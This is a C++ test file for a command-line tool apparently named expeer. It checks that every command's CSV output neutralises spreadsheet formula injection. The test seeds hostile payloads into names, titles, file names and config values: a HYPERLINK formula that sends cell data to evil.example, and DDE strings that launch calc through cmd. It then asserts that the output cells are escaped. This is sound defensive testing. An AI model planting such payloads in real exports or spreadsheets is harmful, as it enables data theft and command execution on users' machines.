// Every CSV expeer writes, on standard output or to a file, is safe to open in a spreadsheet:
// hostile values seeded everywhere a person or a file can put text, then every command that
// takes --format (found in the command table, so a new one cannot be forgotten) run in CSV.
#include "../scratch.hpp"
#include "commands.hpp"
#include "util/csv.hpp"

#include <catch2/catch.hpp>
#include <fstream>
#include <regex>
#include <sstream>

using namespace expeer;

namespace {

// What a spreadsheet would run, in the places each can reach.
const std::string hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")";
const std::string sum = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string plus = "+33 1 23 45 67 89";
const std::string minus = "-2+3+cmd|' /C calc'!A0";
const std::string full_width = "\xef\xbc\x9dSUM(A1)"; // ＝SUM(A1)
const std::string file_name = "@SUM(1+1).txt";        // a file added to a library

struct Run {
    int status;
    std::string out, err;
};

class Network {
  public:
    Network() {
        dir_.write("none.yaml", "");
        std::filesystem::create_directories(dir_ / "home");
        env_.variables = {
            {"HOME", (dir_ / "home").string()},
            {"USER", "tester"},
            {"EXPEER_SYSTEM_CONFIG", (dir_ / "none.yaml").string()},
            {"EXPEER_DB", (dir_ / "expeer.db").string()},
            {"EXPEER_NOW", "2024-09-15T08:30:00Z"},
            {"EXPEER_LETTER_FROM_NAME", hyperlink},
            {"EXPEER_LETTER_TOKEN_SECRET", "a-secret-for-the-tests-only"},
        };
    }

    Run run(std::vector<std::string> args) const {
        args.insert(args.begin(), "expeer");
        std::vector<const char*> argv;
        for (const auto& a : args)
            argv.push_back(a.c_str());
        std::ostringstream out, err;
        cli::Context context(env_, out, err, false);
        const int status = cli::run(static_cast<int>(argv.size()), argv.data(), context);
        return {status, out.str(), err.str()};
    }

    void ok(const std::vector<std::string>& args) const {
        const auto r = run(args);
        INFO(args[0] << " " << args[1] << ": " << r.err);
        REQUIRE(r.status == 0);
    }

    std::filesystem::path path(const std::string& name) const { return dir_ / name; }
    std::string write(const std::string& name, const std::string& text) const {
        return dir_.write(name, text).string();
    }

  private:
    test::ScratchDir dir_;
    Environment env_;
};

// Text people and files put in: a member's name, organisation and occupation, a space's
// label, a news title, a talk, a file's path, an activity's content, the actor of the audit
// log, a configuration value, a row an import rejects.
void seed(const Network& n) {
    n.ok({"db", "init", "--actor", sum});
    n.ok({"members", "add", "amina@example.org", "--name", hyperlink, "--country", "TN",
          "--organisation", sum, "--occupation", "other", "--language", "fr", "--newsletter",
          "yes"});
    n.ok({"members", "add", "jb@example.org", "--name", full_width, "--country", "CD",
          "--organisation", plus});
    n.ok({"spaces", "create", "sahel", "--label", hyperlink});
    n.ok({"spaces", "members", "add", "sahel", "amina@example.org"});
    n.ok({"news", "post", "sahel", "--title", hyperlink, "--body", sum, "--as", "amina@example.org",
          "--at", "2024-08-20T10:00:00Z"});
    n.ok({"news", "comment", "1", "--body", hyperlink, "--as", "amina@example.org", "--at",
          "2024-08-21T10:00:00Z"});
    n.ok({"talks", "add", "--at", "2024-09-26T14:00:00Z", "--title-fr", hyperlink, "--title-en",
          sum, "--speakers", minus});
    n.ok({"library", "add", "sahel", n.write("@SUM(1+1).txt", "x"), "--as", "amina@example.org"});
    n.ok({"activity", "import",
          n.write("history.jsonl",
                  "{\"id\": \"e1\", \"time\": \"2024-03-01T10:00:00Z\", \"member\": "
                  "\"amina@example.org\", \"kind\": \"news\", \"space\": \"sahel\", \"content\": "
                  "\"=HYPERLINK(\\\"https://evil.example/?\\\"&A2,\\\"Click\\\")\"}\n")});
    n.ok({"map", "create", "probe", "--country", "TN", "--title-fr", hyperlink, "--title-en", sum, "--attribution",
          plus, "--boundaries",
          n.write("tn.geojson", "{\"type\": \"FeatureCollection\", \"features\": [{\"type\": \"Feature\", "
                                "\"properties\": {\"shapeISO\": \"TN-11\", \"shapeName\": \"" + minus + "\"}, "
                                "\"geometry\": {\"type\": \"Polygon\", \"coordinates\": [[[10.1, 36.7], "
                                "[10.3, 36.7], [10.3, 36.9], [10.1, 36.9], [10.1, 36.7]]]}}]}"),
          "--categories", n.write("categories.yaml", "- code: probe\n  fr: |-\n    " + hyperlink + "\n  en: |-\n    " + sum + "\n")});
    n.ok({"backup", "create", n.path("backup.tar.gz").string()});
}

struct Probe {
    Probe(std::vector<std::string> args_, bool user_text_ = true, std::string file_ = {})
        : args(std::move(args_)), user_text(user_text_), file(std::move(file_)) {}
    std::vector<std::string> args;
    bool user_text;   // false: nothing a person or a file wrote reaches this output
    std::string file; // the CSV is written to this file, not to standard output
};

// How each command that takes --format is made to print CSV of the data seeded above. The
// test fails for a command that takes --format and is in neither table.
std::map<std::string, Probe> probes(const Network& n) {
    const std::string rejects = n.path("rejects.csv").string();
    const std::string exported = n.path("members.csv").string();
    const std::string form =
        n.write("form.csv", "email,name,country\nbad@example.org," + sum + ",Narnia\n");
    // A report's feedback type is whatever its sender wrote.
    const std::string bounces = n.write(
        "bounces.mbox", "From MAILER-DAEMON Sun Sep 15 08:31:02 2024\nMessage-ID: <1@x.example>\n"
                        "Content-Type: multipart/report; report-type=feedback-report; boundary=b\n\n--b\n"
                        "Content-Type: message/feedback-report\n\nFeedback-Type: " + plus + "\n\n--b--\n");
    return {
        {"activity list", {{"activity", "list"}}},
        {"audit list", {{"audit", "list"}}},
        {"backup verify", {{"backup", "verify", n.path("backup.tar.gz").string()}, false}},
        {"config show", {{"config", "show", "--origin"}}},
        {"db status", {{"db", "status"}, false}},
        {"letter bounces", {{"letter", "bounces", bounces, "--dry-run"}}},
        {"letter recipients", {{"letter", "recipients", "2024-09"}, false}},
        {"letter status", {{"letter", "status", "2024-09"}, false}},
        {"library history", {{"library", "history", "sahel", "@SUM(1+1).txt"}, false}},
        {"library list", {{"library", "list", "sahel"}}},
        {"map list", {{"map", "list"}}},
        {"map show", {{"map", "show", "probe"}}},
        {"members export", {{"members", "export", exported}, true, exported}},
        {"members import",
         {{"members", "import", form, "--skip-invalid", "--rejects", rejects}, true, rejects}},
        {"members list", {{"members", "list"}}},
        {"members show", {{"members", "show", "amina@example.org"}}},
        {"news list", {{"news", "list"}}},
        {"news show", {{"news", "show", "1"}}},
        {"news comments list", {{"news", "comments", "list", "1"}}},
        {"news comments show", {{"news", "comments", "show", "1"}}},
        {"spaces list", {{"spaces", "list"}}},
        {"spaces members list", {{"spaces", "members", "list", "sahel"}}},
        {"spaces show", {{"spaces", "show", "sahel"}}},
        {"stats audit", {{"stats", "audit", "--year", "2024"}, false}},
        {"stats report", {{"stats", "report", "--year", "2024"}, false}},
        {"talks list", {{"talks", "list"}}},
    };
}

// Commands whose --format is not an output format of data, or that never print CSV.
const std::map<std::string, std::string> exempt = {
    {"db copy", "prints table names and counts of its own, which the store makes"},
    {"db check", "a sound store has no findings to print; db-check.t shows them (hashes, paths)"},
    {"library export", "--format is the archive's (zip or tar.gz)"},
    {"letter totals", "prints issue names (YYYY-MM, checked on approval), counts and timestamps of its own; "
                      "letter-unsubscribe-web.t shows them"},
    {"platform check", "prints a summary or JSON, never CSV (tested against the fake platform)"},
    {"platform pull", "prints counts and field names of its own, as a table or JSON"},
    {"platform push", "prints counts of its own, as a table or JSON"},
};

void collect(const CLI::App* app, const std::string& path,
             std::vector<std::pair<std::string, const CLI::App*>>& out) {
    const auto subs = app->get_subcommands([](const CLI::App*) { return true; });
    if (subs.empty()) out.emplace_back(path, app);
    for (const CLI::App* sub : subs)
        collect(sub, path.empty() ? sub->get_name() : path + " " + sub->get_name(), out);
}

bool takes_format(const CLI::App* app) {
    for (const CLI::Option* option : app->get_options())
        for (const auto& name : option->get_lnames())
            if (name == "format") return true;
    return false;
}

// A cell a spreadsheet would run: a formula start that is not a plain number.
bool runs_as_formula(const std::string& cell) {
    static const std::regex number("[+-]?[0-9]+(\\.[0-9]+)?");
    if (std::regex_match(cell, number)) return false;
    for (const char* start : {"=", "+", "-", "@", "\t", "\r", "\xef\xbc\x9d", "\xef\xbc\x8b",
                              "\xef\xbc\x8d", "\xef\xbc\xa0"})
        if (cell.starts_with(start)) return true;
    return false;
}

} // namespace

TEST_CASE("no CSV output of any command lets a spreadsheet run a value") {
    Network n;
    seed(n);
    std::ostringstream unused;
    cli::Context listing(Environment{}, unused, unused, false);
    cli::Action unused_action;
    const auto app = cli::build_app(listing, unused_action);
    std::vector<std::pair<std::string, const CLI::App*>> leaves;
    collect(app.get(), "", leaves);

    const auto all = probes(n);
    std::size_t checked = 0;
    for (const auto& [name, leaf] : leaves) {
        if (!takes_format(leaf) || exempt.count(name)) continue;
        INFO("expeer " << name);
        const auto probe = all.find(name);
        // A new command that prints data: give it a probe above.
        REQUIRE(probe != all.end());
        auto args = probe->second.args;
        if (probe->second.file.empty()) args.insert(args.end(), {"--format", "csv"});
        const auto r = n.run(args);
        INFO(r.err);
        CHECK((r.status == 0 || r.status == 3)); // 3: the import rejected the row, as it should
        std::string csv = r.out;
        if (!probe->second.file.empty()) {
            std::ifstream in(probe->second.file);
            csv.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
        }
        std::istringstream in(csv);
        CsvReader reader(in, name, Encoding::utf8, ',');
        CsvRecord record;
        std::size_t records = 0, neutralised = 0;
        while (reader.next(record)) {
            ++records;
            for (const auto& cell : record.fields) {
                INFO("cell " << cell);
                CHECK_FALSE(runs_as_formula(cell));
                for (const auto& hostile : {hyperlink, sum, plus, minus, full_width, file_name})
                    if (cell == "'" + hostile) ++neutralised;
            }
        }
        CHECK(records >= 2); // a header and data
        if (probe->second.user_text) CHECK(neutralised > 0);
        ++checked;
    }
    CHECK(checked == all.size()); // no probe for a command that is gone
}
